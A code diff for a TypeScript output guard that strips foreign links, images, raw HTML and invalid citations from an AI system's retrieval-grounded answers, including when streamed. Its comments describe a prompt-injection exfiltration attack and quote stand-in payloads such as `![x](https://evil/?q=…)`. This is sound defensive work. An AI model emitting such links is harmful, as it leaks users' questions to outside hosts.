@@ -1,55 +1,163 @@
+import { fromMarkdown } from "mdast-util-from-markdown";
+
 /**
  * Post-processing of every generated answer, whatever the origin (or a model a document talked
  * into obeying it) returned, before a client or the cache sees it:
  * - citations must name a source that exists: `[n]` with n outside 1..sources is removed (from a
  *   list `[1, 9]` only the bad number);
- * - links and images must come from the sources: a markdown image, a markdown link, an autolink,
- *   an HTML tag with `src`/`href`, or a bare URL whose target does not occur verbatim in a source
- *   is removed (a link keeps its text). A rendering client then cannot be made to fetch a URL that
- *   carries the question (`![x](https://evil/?q=…)`) or send a reader to one no document named.
- * Pure and linear in the answer's length.
+ * - links and images must come from the sources. The answer is parsed as CommonMark (micromark,
+ *   through mdast-util-from-markdown, with source positions), so what is judged is what a renderer
+ *   will see: nested and escaped brackets, entity-encoded destinations (`https&#x3a;//…`),
+ *   scheme-relative ones (`//host/…`), definitions inside block quotes. An image, a link or an
+ *   autolink whose decoded destination is not a URL occurring in a source is removed (a link keeps
+ *   its text); so is every reference definition (one would change how text before it parses, and
+ *   a stream has sent that text already: a reference then reads as its bracketed text); raw HTML
+ *   is kept only when it is nothing but attribute-free formatting tags, and a `<` that micromark
+ *   reads as text but could open a tag elsewhere is written `&lt;`; a bare URL no source contains
+ *   is removed. A rendering client then cannot be made to fetch a URL that carries the question
+ *   (`![x](https://evil/?q=…)`) or send a reader to one no document named.
+ *
+ * Streams: the answer is cut where a CommonMark paragraph must end (after a blank line; past
+ * MAX_HELD_CHARS without one, at the last line end before it), and each piece is cleaned as it
+ * reads after the text already sent (from the start of its last block, the only one a piece can
+ * continue), so no construct straddles what was sent and what follows. `clean` is that same stream
+ * run over the whole answer, so the streamed, the JSON and the cached text are one and the same,
+ * however the tokens were split (leading and trailing whitespace trimmed, the leading before
+ * cleaning: trimming it after could turn an indented code block into live Markdown).
+ *
+ * Failure modes: none thrown. Each round re-parses, since a removal can join two harmless halves
+ * into a new construct (`[x]<!-- -->(//evil)`); a piece that has not settled after MAX_ROUNDS
+ * rounds is dropped whole (a real answer settles in one or two). Cost: a piece with no bracket,
+ * tag, entity, escape or URL after a blank line is not parsed; any other is parsed once per round
+ * with its context (micromark: a few ms per KiB).
  */
 
 const URL_IN_TEXT = /\b(?:https?|ftp):\/\/[^\s<>"'`)\]]+/gi;
 /** Trailing punctuation a sentence puts after a URL, not part of it. */
 const trimUrl = (url: string) => url.replace(/[.,;:!?]+$/, "");
 
+/** Held back at most this much before a piece is cut anyway (at a line end where there is one). */
+const MAX_HELD_CHARS = 4096;
+/** Where a paragraph must end: a blank line. */
+const BLANK_LINE = /\n[ \t]*\r?\n/;
+const MAX_ROUNDS = 32;
+
+/** Raw HTML that fetches nothing and links nowhere: formatting tags without attributes. */
+const HARMLESS_TAG =
+  /<\/?(?:a|abbr|b|blockquote|br|caption|cite|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|i|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|var)\s*\/?>/gi;
+
+/** A `<` that could open a tag, an autolink, a comment or a declaration. */
+const TAG_START = /<(?=[A-Za-z/!?])/;
+const TAG_START_ALL = new RegExp(TAG_START.source, "g");
+
 export interface AnswerGuard {
   /** The answer with out-of-range citations and foreign links/images removed. */
   clean(answer: string): string;
-  /** A streaming guard: text in, cleaned text out, holding back an unfinished construct. */
+  /** A streaming guard: text in, cleaned text out, holding back a piece until it is complete. */
   stream(): { push(text: string): string; flush(): string };
+}
+
+interface Node {
+  type: string;
+  url?: string;
+  value?: string;
+  children?: Node[];
+  position?: { start: { offset?: number }; end: { offset?: number } };
+}
+
+/** A removal (or, for `with`, a replacement) of document[start, end). */
+interface Edit {
+  start: number;
+  end: number;
+  with?: string;
 }
 
 export function createAnswerGuard(sources: ReadonlyArray<{ text: string }>): AnswerGuard {
   const allowed = new Set<string>();
   for (const source of sources) for (const match of source.text.matchAll(URL_IN_TEXT)) allowed.add(trimUrl(match[0]));
   const count = sources.length;
-  const known = (target: string) => {
-    const url = trimUrl(target.trim().replace(/^<|>$/g, "").split(/\s+/)[0] ?? "");
-    return url !== "" && allowed.has(url);
-  };
+  const known = (url: string) => url !== "" && allowed.has(url);
+  const foreignUrls = (text: string) => [...text.matchAll(URL_IN_TEXT)].some((m) => !allowed.has(trimUrl(m[0])));
+  const withoutForeignUrls = (text: string) =>
+    text.replace(URL_IN_TEXT, (url: string) => {
+      const trimmed = trimUrl(url);
+      return allowed.has(trimmed) ? url : url.slice(trimmed.length);
+    });
 
-  const clean = (answer: string): string =>
-    answer
-      // Markdown images: ![alt](target "title")
-      .replace(/!\[([^\]\n]*)\]\(([^)\n]*)\)/g, (whole, _alt, target: string) => (known(target) ? whole : ""))
-      // Markdown links: [text](target): the text stays.
-      .replace(/\[([^\]\n]*)\]\(([^)\n]*)\)/g, (whole, text: string, target: string) => (known(target) ? whole : text))
-      // Reference-style definitions: [label]: target
-      .replace(/^[ \t]*\[[^\]\n]+\]:[ \t]*(\S+).*$/gm, (whole, target: string) => (known(target) ? whole : ""))
-      // HTML tags that fetch or link (img, a, iframe, source, …).
-      .replace(/<\/?[a-z][^>]*>/gi, (tag: string) => {
-        const targets = [...tag.matchAll(/\b(?:src|href|srcset|data|action|poster|background)\s*=\s*["']?([^"'\s>]+)/gi)].map((m) => m[1]!);
-        if (/^<\/a\b/i.test(tag)) return "";
-        return targets.length === 0 || targets.every(known) ? tag : "";
-      })
-      // Autolinks <https://…> and bare URLs.
-      .replace(/<((?:https?|ftp):\/\/[^>\s]+)>/gi, (whole, url: string) => (known(url) ? whole : ""))
-      .replace(URL_IN_TEXT, (url: string) => {
-        const trimmed = trimUrl(url);
-        return allowed.has(trimmed) ? url : url.slice(trimmed.length);
-      })
+  /** What to remove from `doc` at or after `from` (the text before it was sent already), and where its last block starts. */
+  function editsOf(doc: string, from: number): { edits: Edit[]; lastBlock: number } {
+    const edits: Edit[] = [];
+    const remove = (start: number, end: number) => {
+      if (end > from && end > start) edits.push({ start: Math.max(start, from), end });
+    };
+    const visit = (node: Node) => {
+      const start = node.position?.start.offset ?? 0;
+      const end = node.position?.end.offset ?? 0;
+      const children = node.children ?? [];
+      if (end <= from && node.type !== "root") return;
+      switch (node.type) {
+        case "image":
+          if (!known(node.url ?? "")) return remove(start, end);
+          break;
+        case "definition":
+          // Every one: a definition changes how text before it parses, and a stream has sent that text.
+          return remove(start, end);
+        case "link": {
+          if (known(node.url ?? "")) break;
+          // Unwrapped: the brackets and destination go, the text stays.
+          const first = children[0]?.position?.start.offset;
+          const last = children.at(-1)?.position?.end.offset;
+          if (first === undefined || last === undefined) return remove(start, end);
+          remove(start, first);
+          remove(last, end);
+          break;
+        }
+        case "html":
+          if ((node.value ?? "").replace(HARMLESS_TAG, "").includes("<")) return remove(start, end);
+          break;
+        case "text": {
+          const raw = doc.slice(start, end);
+          const value = node.value ?? "";
+          if (raw !== value && foreignUrls(value)) {
+            // A URL spelled with escapes or entities (`https&#x3a;//…`) shows once decoded: the text is written decoded.
+            if (start >= from) edits.push({ start, end, with: withoutForeignUrls(value) });
+            else remove(start, end);
+          } else if (start >= from && TAG_START.test(raw)) {
+            // Text to micromark, but a tag to a renderer that reads HTML differently (`<a href=x/y>`): written as text.
+            edits.push({ start, end, with: raw.replace(TAG_START_ALL, "&lt;") });
+          }
+          break;
+        }
+      }
+      for (const child of children) visit(child);
+    };
+    const root = fromMarkdown(doc) as Node;
+    visit(root);
+    return { edits: edits.sort((a, b) => a.start - b.start), lastBlock: root.children?.at(-1)?.position?.start.offset ?? doc.length };
+  }
+
+  /**
+   * One round over `piece` as it reads after `context` (what was sent, from the start of its last
+   * block: earlier blocks are closed and cannot reach into the piece): the parser's removals, then
+   * the textual rules.
+   */
+  function round(context: string, piece: string, atStart: boolean): { piece: string; lastBlock: number } {
+    const doc = context + piece;
+    const { edits, lastBlock } = editsOf(doc, context.length);
+    let out = "";
+    let at = context.length;
+    for (const edit of edits) {
+      if (edit.start < at) continue; // inside a removal already made
+      out += doc.slice(at, edit.start) + (edit.with ?? "");
+      at = edit.end;
+    }
+    out += doc.slice(at);
+    // An answer starts at its first character: leading indentation would make the rest a code block here, and not once trimmed.
+    return { piece: atStart ? tidy(out).trimStart() : tidy(out), lastBlock };
+  }
+
+  const tidy = (text: string) =>
+    withoutForeignUrls(text)
       // Citations: keep the numbers that name a source; drop the marker when none does.
       .replace(/\[(\s*\d+(?:\s*,\s*\d+)*\s*)\](?!\()/g, (_whole, list: string) => {
         const kept = list
@@ -58,49 +166,81 @@ export function createAnswerGuard(sources: ReadonlyArray<{ text: string }>): Ans
           .filter((n) => Number.isInteger(n) && n >= 1 && n <= count);
         return kept.length > 0 ? `[${kept.join(", ")}]` : "";
       })
-      .replace(/[ \t]{2,}/g, " ")
-      .replace(/ +([.,;:!?])/g, "$1");
+      // The gaps removals leave (indentation and line ends are not touched).
+      .replace(/(?<=\S)[ \t]{2,}(?=\S)/g, " ")
+      .replace(/(?<=\S) +(?=[.,;:!?](?:\s|$))/g, "");
+
+  function stream() {
+    let sent = "";
+    /** Where, in `sent`, the block that the next piece may continue starts. */
+    let contextStart = 0;
+    let pending = "";
+    /** How much of `sent` went out: all but its trailing whitespace, which waits for more text (an answer ends without it). */
+    let shown = 0;
+
+    /** The piece cleaned until a round changes nothing. */
+    function cleanPiece(piece: string): string {
+      // After a blank line, text with no bracket, tag, entity, escape or URL starts no construct.
+      if (/\n[ \t]*\r?\n$/.test(sent.slice(-8)) || sent === "") {
+        if (!/[[\]<&\\]|:\/\//.test(piece)) return sent === "" ? tidy(piece).trimStart() : tidy(piece);
+      }
+      const context = sent.slice(contextStart);
+      for (let i = 0; i < MAX_ROUNDS; i++) {
+        const next = round(context, piece, sent === "");
+        if (next.piece === piece) {
+          contextStart += next.lastBlock;
+          return piece;
+        }
+        piece = next.piece;
+      }
+      contextStart = sent.length;
+      return "";
+    }
+
+    const emit = (cut: number) => {
+      sent += cleanPiece(pending.slice(0, cut));
+      pending = pending.slice(cut);
+      const upTo = sent.trimEnd().length;
+      const out = sent.slice(shown, upTo);
+      shown = upTo;
+      return out;
+    };
+    const drain = () => {
+      let out = "";
+      for (let cut = nextCut(pending); cut > 0; cut = nextCut(pending)) out += emit(cut);
+      return out;
+    };
+    return {
+      push(text: string) {
+        pending += text;
+        return drain();
+      },
+      flush() {
+        return drain() + (pending === "" ? "" : emit(pending.length));
+      },
+    };
+  }
 
   return {
-    clean,
-    stream() {
-      let pending = "";
-      return {
-        push(text) {
-          pending += text;
-          const cut = safeCut(pending);
-          if (cut === 0) return "";
-          const ready = pending.slice(0, cut);
-          pending = pending.slice(cut);
-          return clean(ready);
-        },
-        flush() {
-          const rest = pending;
-          pending = "";
-          return rest === "" ? "" : clean(rest);
-        },
-      };
+    clean(answer) {
+      const whole = stream();
+      return whole.push(answer) + whole.flush();
     },
+    stream,
   };
 }
 
-/** Held back at most this much: past it the text is cleaned as it stands (a URL cut in two is still removed). */
-const MAX_HELD_CHARS = 4096;
-
 /**
- * Where the text can be cut so that no construct the cleaner matches is split: after the last
- * whitespace outside an open `[…]`, `](…)` or `<tag…>`. Whitespace ends a URL, so bare URLs are
- * never split either.
+ * Where the next piece ends (0: not known yet): after the first blank line, or, with none in the
+ * first MAX_HELD_CHARS, after the last line end (else the last character) within them. It depends
+ * on the text alone, never on how it arrived, which is what makes every split give the same answer.
  */
-function safeCut(text: string): number {
-  if (text.length > MAX_HELD_CHARS) return text.length;
-  let depth = 0;
-  let cut = 0;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (ch === "[" || (ch === "(" && text[i - 1] === "]") || (ch === "<" && /^[A-Za-z/]?$/.test(text[i + 1] ?? ""))) depth += 1;
-    else if ((ch === "]" || ch === ")" || ch === ">") && depth > 0) depth -= 1;
-    else if (depth === 0 && /\s/.test(ch)) cut = i + 1;
-  }
-  return cut;
+function nextCut(text: string): number {
+  const blank = BLANK_LINE.exec(text);
+  if (blank && blank.index + blank[0].length <= MAX_HELD_CHARS) return blank.index + blank[0].length;
+  if (text.length < MAX_HELD_CHARS) return 0;
+  const lineEnd = text.lastIndexOf("\n", MAX_HELD_CHARS - 1);
+  if (lineEnd > 0) return lineEnd + 1;
+  // Not between the two halves of a surrogate pair.
+  return /[\uD800-\uDBFF]/.test(text[MAX_HELD_CHARS - 1]!) ? MAX_HELD_CHARS - 1 : MAX_HELD_CHARS;
 }
